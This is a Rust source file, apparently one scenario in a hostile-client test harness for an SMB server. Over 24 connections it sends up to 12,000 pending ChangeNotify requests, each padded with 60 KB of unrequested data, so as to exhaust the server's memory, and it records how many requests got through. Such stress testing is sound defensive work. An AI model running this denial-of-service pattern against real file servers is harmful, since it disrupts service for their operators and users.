//! Requests that wait, each with 60 KB behind it that were not asked for.

use smb_wire::Command;
use smb_wire::body::change_notify::{ChangeNotifyRequest, filter};
use smb_wire::create::Disposition;
use smb_wire::create::access::{rights, share};
use smb_wire::fixed::Fixed;

use super::ATTACKER;
use super::raw::{How, Raw};
use crate::hostile::arena::ATTACKER as ADDRESS;
use crate::hostile::net::connect_from;
use crate::hostile::scenario::{Field, Findings, Scenario, Service};
use crate::hostile::server::SMB;

pub(crate) struct Padded;

impl Scenario for Padded {
    fn name(&self) -> &'static str {
        "smb-padded"
    }

    fn about(&self) -> &'static str {
        "requests that wait with 60 KB behind each, as many as go, over 24 connections"
    }

    fn service(&self) -> Service {
        Service::Smb
    }

    fn attack(&self, field: &Field<'_>) -> anyhow::Result<Findings> {
        let mut clients = Vec::new();
        for _ in 0..CLIENTS {
            if field.is_over() {
                break;
            }
            clients.extend(arrive());
        }
        let mut asked = 0;
        for (client, root) in &mut clients {
            // A refusal, or an end, is the server's right.
            while !field.is_over() && client.credits > 1 && asked < REQUESTS_MAX {
                let watch = ChangeNotifyRequest {
                    output_buffer_length: 4096.into(),
                    file_id: *root,
                    completion_filter: filter::LAST_ACCESS.into(),
                    ..ChangeNotifyRequest::blank()
                };
                let sent = client.send(Command::ChangeNotify, 1, |body| {
                    body.push(&watch);
                    body.bytes(&[0; PADDING]);
                });
                if sent.is_err() {
                    break;
                }
                asked += 1;
            }
        }
        field.sit_out();
        Ok(Findings::default()
            .with("connections", clients.len())
            .with("requests", asked)
            .expect(asked > 0, || "nothing was asked".to_owned()))
    }
}

/// Connects a client, with an open of the share's root and credits for many requests.
fn arrive() -> anyhow::Result<(Raw, smb_wire::FileId)> {
    let mut client = Raw::arrive(connect_from(ADDRESS, SMB)?, ATTACKER, true)?;
    let all = share::READ | share::WRITE | share::DELETE;
    let how = How { access: rights::READ_DATA, share: all, disposition: Disposition::Open };
    let root = client.create("", how)?.map_err(|status| anyhow::anyhow!("{status}"))?;
    Ok((client, root))
}

const CLIENTS: usize = 24;
const PADDING: usize = 60 << 10;
const REQUESTS_MAX: usize = 12_000;
